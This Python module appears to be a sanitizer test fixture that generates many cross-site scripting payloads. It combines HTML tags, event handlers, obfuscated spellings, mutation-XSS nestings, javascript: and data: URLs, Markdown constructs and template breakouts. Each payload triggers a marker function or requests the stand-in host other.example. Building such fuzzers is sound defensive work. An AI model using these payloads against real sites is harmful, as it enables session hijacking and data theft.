"""Attacks on a page, made by a grammar: tags × attributes × spellings × constructs of Markdown × places for text.

Each calls `fired(NUMBER)` when it works, or asks `other.example` for something. `vectors(count)` gives a
choice that is the same every time; the product has many more than anybody wants to open.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass

SEED = 20261122

ELEMENTS = (
    "img src=x", "img src=x:x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus", "a",
    "p", "marquee", "select autofocus", "textarea autofocus", "object data=x", "embed src=x", "math", "form", "button",
    "iframe", "table", "div tabindex=0", "x-y", "isindex", "dialog open", "style", "link rel=stylesheet href=x",
    "track default src=x", "svg><animate attributeName=x dur=1s", "svg><set attributeName=x", "math><mi", "font",
    "frameset", "bgsound", "picture><img src=x", "ruby", "label", "summary", "noscript", "template",
)  # fmt: skip
EVENTS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onbegin", "onend", "onstart", "onpageshow",
    "onanimationstart", "onpointerenter", "onwheel", "onscroll", "oncopy", "onbeforetoggle", "onfocusin", "oninput",
    "onkeydown", "onsubmit", "oncanplay", "onloadstart", "onerrorupdate", "onresize", "onhashchange", "onmessage",
)  # fmt: skip
SPELLINGS: tuple[Callable[[str, str, str], str], ...] = (
    lambda tag, event, code: f"<{tag} {event}={code}>",
    lambda tag, event, code: f'<{tag} {event}="{code}">',
    lambda tag, event, code: f"<{tag} {event}='{code}'>",
    lambda tag, event, code: f"<{tag.upper()} {event.upper()}={code}>",
    lambda tag, event, code: f"<{tag} {event.title()} = '{code}' />",
    lambda tag, event, code: f"<{tag.replace(' ', '/')}/{event}={code}>",
    lambda tag, event, code: f"<{tag}\n{event}\n=\n{code}\n>",
    lambda tag, event, code: f"<{tag}\t{event}=\t{code}>",
    lambda tag, event, code: f"<{tag}\f{event}={code}>",
    lambda tag, event, code: f'<{tag} {event}="{entities(code)}">',
    lambda tag, event, code: f"<{tag} {event}={entities(code, hexadecimal=True)}>",
    lambda tag, event, code: f"<{tag} x='>' {event}={code}>",
    lambda tag, event, code: f'<{tag} title="</{tag.split()[0]}>" {event}={code}>',
    lambda tag, event, code: f"<{tag} {event}={code} ",
    lambda tag, event, code: f"<{tag} {event}={code}//",
    lambda tag, event, code: f"<<{tag} {event}={code}>",
    lambda tag, event, code: f"<!--><{tag} {event}={code}>-->",
    lambda tag, event, code: f"<!-- --!><{tag} {event}={code}>",
    lambda tag, event, code: f"<math><mtext><table><mglyph><style><!--</style><{tag} {event}={code}>",
    lambda tag, event, code: f"<svg></p><style><a title='</style><{tag} {event}={code}>'>",
    lambda tag, event, code: f"<form><math><mtext></form><form><mglyph><style></math><{tag} {event}={code}>",
    lambda tag, event, code: f"<noscript><p title='</noscript><{tag} {event}={code}>'>",
    lambda tag, event, code: f"<textarea></textarea><{tag} {event}={code}>",
    lambda tag, event, code: f"<![CDATA[<{tag} {event}={code}>]]>",
    lambda tag, event, code: f"<p markdown=1><{tag} {event}={code}></p>",
    lambda tag, event, code: f"<div><p><b><i><{tag} {event}={code}></div>",
)
SCRIPTS: tuple[Callable[[str], str], ...] = (
    lambda code: f"<script>{code}</script>",
    lambda code: f"<SCRIPT type=module>{code}</SCRIPT >",
    lambda code: f"<script\n>{code}</script\t>",
    lambda code: f"<scr<script></script>ipt>{code}</script>",
    lambda code: f"<svg><script>{entities(code)}</script></svg>",
    lambda code: f"<script src='data:text/javascript,{code}'></script>",
    lambda code: f"<iframe srcdoc='<script>parent.{code}</script>'></iframe>",
    lambda code: f"<iframe src='javascript:parent.{code}'></iframe>",
    lambda code: f"<object data='javascript:{code}'></object>",
    lambda code: f"<style>@import 'http://other.example/{code[6:-1]}'</style>",
    lambda code: f"<link rel=stylesheet href=//other.example/{code[6:-1]}>",
    lambda code: f"<img src=//other.example/{code[6:-1]}>",
    lambda code: f"<img srcset='http://other.example/{code[6:-1]} 1x' src=a>",
    lambda code: f"<p style=\"background:url('http://other.example/{code[6:-1]}')\">a</p>",
    lambda code: f"<video poster=http://other.example/{code[6:-1]}></video>",
    lambda code: f"<svg><image href=http://other.example/{code[6:-1]}></svg>",
    lambda code: f"<input type=image src=http://other.example/{code[6:-1]}>",
    lambda code: f"<table background=http://other.example/{code[6:-1]}><tr><td>a</table>",
    lambda code: f"<meta http-equiv=refresh content='0;url=http://other.example/{code[6:-1]}'>",
    lambda code: f"<xmp><p title='</xmp><img src=x onerror={code}>'></xmp>",
)
ADDRESSES: tuple[Callable[[str], str], ...] = (
    lambda code: f"javascript:{code}",
    lambda code: f"JaVaScRiPt:{code}",
    lambda code: f"javascript&colon;{code}",
    lambda code: f"&#106;avascript:{code}",
    lambda code: f"&#x6A;&#x61;vascript:{code}",
    lambda code: f"java&Tab;script:{code}",
    lambda code: f"java&NewLine;script:{code}",
    lambda code: f"&#1;javascript:{code}",
    lambda code: f"javascript:%66ired({code[6:-1]})",
    lambda code: f"javascript://a%0A{code}",
    lambda code: f"javascript:/*a*/{code}",
    lambda code: f"data:text/html,<script>{code}</script>",
    lambda code: f"data:text/html;charset=utf-8,%3Cscript%3E{code}%3C/script%3E",
    lambda code: f"vbscript:{code}",
    lambda code: f"//other.example/{code[6:-1]}",
    lambda code: f"\\\\other.example/{code[6:-1]}",
    lambda code: f"view-source:javascript:{code}",
    lambda code: f"module:javascript:{code}",
)
LINKS: tuple[Callable[[str], str], ...] = (
    lambda url: f"[a]({url})",
    lambda url: f"[a](<{url}>)",
    lambda url: f"![a]({url})",
    lambda url: f"[![a](x.png)]({url})",
    lambda url: f"[a][{hash_of(url)}]\n\n[{hash_of(url)}]: {url}",
    lambda url: f"<{url}>",
    lambda url: f"<a href='{url}'>a</a>",
    lambda url: f"<a href={url}>a</a>",
    lambda url: f"<svg><a xlink:href='{url}'><text y=9>a</text></a></svg>",
    lambda url: f"<math href='{url}'><mi>a</mi></math>",
    lambda url: f"<form action='{url}'><button>a</button></form>",
    lambda url: f"<button formaction='{url}'>a</button>",
    lambda url: f"<iframe src='{url}'></iframe>",
    lambda url: f"<embed src='{url}'>",
    lambda url: f"<area href='{url}'>",
    lambda url: f"<base href='{url}'>",
    lambda url: f"<img src='{url}'>",
    lambda url: f"<a href='x' ping='{url}'>a</a>",
    lambda url: f'[a](x "{url}")',
    lambda url: f"[a](x){{: href='{url}' }}",
)
CONSTRUCTS: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: f"a {text} b",
    lambda text: f"## {one_line(text)}",
    lambda text: f"{one_line(text)}\n=====",
    lambda text: f"- {one_line(text)}\n- b",
    lambda text: f"1. {one_line(text)}",
    lambda text: f"> {one_line(text)}",
    lambda text: f"| {one_line(text).replace('|', '')} |\n|---|\n| {one_line(text).replace('|', '')} |",
    lambda text: f"> [!TIP] {one_line(text)}\n> a",
    lambda text: f'!!! note "{one_line(text)}"\n    {one_line(text)}',
    lambda text: f'??? note "{one_line(text)}"\n    a',
    lambda text: f'=== "{one_line(text)}"\n\n    {one_line(text)}',
    lambda text: f"a[^{hash_of(text)}]\n\n[^{hash_of(text)}]: {one_line(text)}",
    lambda text: f"A\n:   {one_line(text)}",
    lambda text: f"- [ ] {one_line(text)}",
    lambda text: f"*[{hash_of(text)}]: {one_line(text)}\n\n{hash_of(text)}",
    lambda text: f"[{one_line(text)}](x)",
    lambda text: f'[a](x "{one_line(text)}")',
    lambda text: f"![{one_line(text)}](x.png)",
    lambda text: f"*{one_line(text)}*",
    lambda text: f"`#!html {one_line(text)}`",
    lambda text: f"```{one_line(text)}\na\n```",
    lambda text: f"```html\n{text}\n```",
    lambda text: f"${one_line(text)}$",
    lambda text: f"$$\n\\text{{{one_line(text)}}}\n$$",
    lambda text: f"*a*{{: title='{one_line(text)}' {one_line(text)} }}",
    lambda text: f"<figure><img src=x.png alt='a'><figcaption>{text}</figcaption></figure>",
    lambda text: f"<details><summary>{text}</summary>a</details>",
    lambda text: f"<table><caption>{text}</caption></table>",
    lambda text: f"&lt;{text}&gt; &amp;{text}",
)
BREAKS: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: f'"> {text}',
    lambda text: f"'> {text}",
    lambda text: f"</title>{text}",
    lambda text: f"</script>{text}",
    lambda text: f"</textarea></style>{text}",
    lambda text: f"--> {text}",
    lambda text: f"]]> {text}",
    lambda text: f"&quot;&gt;{text}",
    lambda text: f"{{{{ '{text}' }}}} {{% raw %}}",
    lambda text: f"\\u003c{text}",
)
"""Ways out of where a text may stand in a template."""


@dataclass(frozen=True, slots=True)
class Vector:
    """One attack: what it calls `fired` with, and its text."""

    number: int
    text: str


def bodies(count: int) -> list[Vector]:
    """Give attacks on what is read as Markdown: pages, questions, change logs."""
    return list(_chosen(count, SEED, _body))


def fields(count: int, start: int = 0) -> list[Vector]:
    """Give attacks on words that stand in templates: titles, names, tags; numbered from `start`."""
    return list(_chosen(count, SEED + 1, _field, start))


def _chosen(
    count: int, seed: int, make: Callable[[random.Random, str], str], start: int = 0
) -> Iterator[Vector]:
    chance = random.Random(seed)
    seen: set[str] = set()
    number = start
    while number < start + count:
        state = make(chance, "fired(0)")
        if state in seen:
            continue
        seen.add(state)
        yield Vector(number, state.replace("(0)", f"({number})").replace("example/0", f"example/{number}"))
        number += 1


def _html(chance: random.Random, code: str) -> str:
    if chance.random() < 0.25:
        return chance.choice(SCRIPTS)(code)
    return chance.choice(SPELLINGS)(chance.choice(ELEMENTS), chance.choice(EVENTS), code)


def _body(chance: random.Random, code: str) -> str:
    if chance.random() < 0.3:
        return chance.choice(CONSTRUCTS)(chance.choice(LINKS)(chance.choice(ADDRESSES)(code)))
    return chance.choice(CONSTRUCTS)(_html(chance, code))


def _field(chance: random.Random, code: str) -> str:
    if chance.random() < 0.2:
        return chance.choice(ADDRESSES)(code)
    return chance.choice(BREAKS)(one_line(_html(chance, code)))


def one_line(text: str) -> str:
    """Put a text on one line."""
    return " ".join(text.split())


def entities(text: str, *, hexadecimal: bool = False) -> str:
    """Write a text as character references; what `fired` is called with stays, so that it can be numbered."""
    name, rest = text[:5], text[5:]
    return "".join(f"&#x{ord(each):x};" if hexadecimal else f"&#{ord(each)};" for each in name) + rest


def hash_of(text: str) -> str:
    """Give a short word that differs from text to text."""
    return f"w{sum(at * ord(each) for at, each in enumerate(text, 7)) % 99991}"


def dealt(items: Sequence[Vector], size: int) -> list[Sequence[Vector]]:
    """Deal out into parts of at most `size`."""
    return [items[at : at + size] for at in range(0, len(items), size)]
